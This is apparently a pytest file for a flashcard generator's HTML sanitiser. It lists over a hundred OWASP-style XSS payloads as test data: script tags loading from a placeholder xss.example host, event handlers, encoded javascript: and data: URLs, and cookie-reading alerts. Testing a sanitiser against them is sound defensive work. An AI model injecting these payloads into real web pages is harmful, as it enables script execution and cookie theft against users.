"""The raw-HTML policy: known XSS payloads are removed with a warning; harmless HTML and
everything deckgen generates itself pass untouched."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt

from deckgen.cards.fields import build_renderer, highlight_code, render_block, render_inline
from deckgen.cards.render import render_card
from deckgen.notes.parse import parse_notes_file
from html_safety import unsafe_parts

# Patterns from OWASP's XSS filter evasion cheat sheet and common variants, written out
# here (not vendored). Each is tried as an HTML block, inline in a sentence, and in a
# question heading.
XSS_PAYLOADS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<script src=//xss.example/a.js></script>",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<SCRIPT/SRC="http://xss.example/xss.js"></SCRIPT>',
    "<<SCRIPT>alert('XSS');//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<SCRIPT>a=/XSS/\nalert(a.source)</SCRIPT>",
    "</TITLE><SCRIPT>alert('XSS');</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<img src="x" onerror="alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<BODY ONLOAD=alert('XSS')>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="http://xss.example/xss.css">',
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.example/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://xss.example/xssmoz.xml#xss")}</STYLE>',
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<STYLE TYPE=\"text/javascript\">alert('XSS');</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:white">fake card</div>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<embed src="javascript:alert(1)">',
    "<applet code=x></applet>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JAVASCRIPT:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="&#x6A;avascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="#" onclick="alert(1)">click</a>',
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    '<?xml version="1.0"?><script>alert(1)</script>',
    "<span onclick=alert(1)>x</span>",
    "<kbd onmouseover=alert(1)>Ctrl</kbd>",
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](<javascript:alert(1)>)",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+)",
    "<javascript:alert(1)>",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
]


def plain_render(markdown: str) -> str:
    """What a renderer without deckgen's policy would emit (for the 'was it dangerous' side)."""
    md = MarkdownIt("commonmark", {"highlight": highlight_code}).enable(["table", "strikethrough"])
    return str(md.render(markdown))


def warnings_for(answer: str) -> list[str]:
    """The HTML-policy warnings of a card with this answer, as `deckgen check` shows them."""
    text = f"# EC2\n## T\n### What is it?\n{answer}\n"
    parsed = parse_notes_file(text, "notes/ec2.md", "ec2.md", "learn-aws")
    problems = [d for card in parsed.cards for d in render_card(card).diagnostics]
    return [str(d) for d in [*parsed.diagnostics, *problems] if d.code.startswith("DG4")]


def test_the_payload_list_is_long_and_the_judge_has_teeth() -> None:
    assert len(XSS_PAYLOADS) >= 100
    dangerous = [p for p in XSS_PAYLOADS if unsafe_parts(plain_render(p))]
    # Most payloads really run when rendered without the policy; the rest are ones
    # CommonMark itself already shows as text (markdown-it refuses javascript: links).
    assert len(dangerous) >= 80, len(dangerous)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_is_removed_in_every_position(payload: str) -> None:
    rendered = {
        "block": render_block(payload),
        "inline": render_block(f"See {payload} here."),
        "question": render_inline(payload),
        "list item": render_block(f"- {payload}"),
    }
    for where, html in rendered.items():
        assert unsafe_parts(html) == [], f"{where}: {html}"


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_a_removed_payload_is_reported(payload: str) -> None:
    if unsafe_parts(plain_render(payload)):
        assert warnings_for(payload), "removed without a warning"


def test_warnings_name_path_line_and_what_went() -> None:
    answer = (
        "Press <kbd onclick=alert(1)>Ctrl</kbd>.\n\n"
        "<div>\n<script>alert(1)</script>\n</div>\n\n"
        'A [link](javascript:alert(1)) and <b style="color:red;position:fixed">b</b>.'
    )
    assert warnings_for(answer) == [
        "notes/ec2.md:4: warning DG402 removed event handler 'onclick' from raw HTML <kbd>",
        "notes/ec2.md:7: warning DG401 removed raw HTML <script>: not allowed in notes",
        "notes/ec2.md:10: warning DG403 removed unsafe URL 'javascript:alert(1)' from a Markdown link",
        "notes/ec2.md:10: warning DG402 removed style property 'position' from raw HTML <b>",
    ]


def test_malformed_tag_is_text_and_reported() -> None:
    assert render_block("<div>\n<svg/onload=alert(1)>\n</div>") == (
        "<div>\n&lt;svg/onload=alert(1)>\n</div>"
    )
    assert warnings_for("<div>\n<svg/onload=alert(1)>\n</div>") == [
        "notes/ec2.md:5: warning DG404 '<svg/onload=alert(1)>' is not a well-formed HTML tag;"
        " shown as text"
    ]


@pytest.mark.parametrize(
    "markdown",
    [
        "H<sub>2</sub>O, E = mc<sup>2</sup>",
        "Press <kbd>Ctrl</kbd>+<kbd>C</kbd><br>then <b>paste</b> and <i>wait</i>.",
        '<span class="note" title="t">x</span> and <div lang="en">y</div>',
        '<table>\n<tr><th>a</th><td colspan="2">b</td></tr>\n</table>',
        "<details>\n<summary>More</summary>\n\nHidden *text*.\n\n</details>",
        '<a href="https://aws.amazon.com/ec2/">EC2</a> and <img src="ec2.png" alt="EC2">',
        '<span style="color: red">red</span>',
    ],
)
def test_harmless_html_passes_without_warning(markdown: str) -> None:
    assert warnings_for(markdown) == []
    assert unsafe_parts(render_block(markdown)) == []
    for tag in ("<sub>", "<kbd>", "<span", "<table>", "<td", "<details>", "<a href", "<img"):
        if tag in markdown:
            assert tag in render_block(markdown)


@pytest.mark.parametrize(
    "markdown",
    [
        "```python\ndef f(x):\n    return {'a': x}  # <script>\n```",
        "Spot is {{c1::spare capacity::what}} at {{c2::a discount}}.",
        "Inline `<script>alert(1)</script>` code and \\(x^2 < y\\) math.",
        '![EC2 diagram](media/ec2.png "EC2") and [docs](https://docs.aws.amazon.com/)',
        "| a | b |\n| - | - |\n| **c** | ~~d~~ |",
        "![tiny](data:image/png;base64,iVBORw0KGgo=)",
    ],
)
def test_deckgens_own_html_passes_untouched(markdown: str) -> None:
    unguarded = build_renderer(sanitize=False).render(markdown).strip()
    assert render_block(markdown) == unguarded
    assert warnings_for(markdown) == []
